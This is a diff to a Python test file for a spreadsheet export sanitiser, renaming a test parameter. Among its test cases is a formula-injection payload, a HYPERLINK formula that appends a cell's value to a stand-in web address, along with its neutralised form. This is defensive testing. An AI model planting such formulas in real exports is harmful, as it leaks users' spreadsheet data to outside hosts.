@@ -12,7 +12,7 @@ from tables.exports import FORMULA, inert, write_csv, write_json_lines
 
 
 @pytest.mark.parametrize(
-    ("cell", "told"),
+    ("cell", "expected"),
     [
         ("=1+1", "'=1+1"),
         ('=HYPERLINK("http://example.org?x="&A1)', '\'=HYPERLINK("http://example.org?x="&A1)'),
@@ -30,9 +30,9 @@ from tables.exports import FORMULA, inert, write_csv, write_json_lines
         (None, None),
     ],
 )
-def test_a_formula_is_exported_inert(cell: str, told: str) -> None:
+def test_a_formula_is_exported_inert(cell: str, expected: str) -> None:
     """An apostrophe stands before it; a plain number stays one."""
-    assert inert(cell) == told
+    assert inert(cell) == expected
 
 
 @given(st.lists(st.lists(st.text(st.characters(exclude_categories=["Cs"]), max_size=9), min_size=2, max_size=2)))
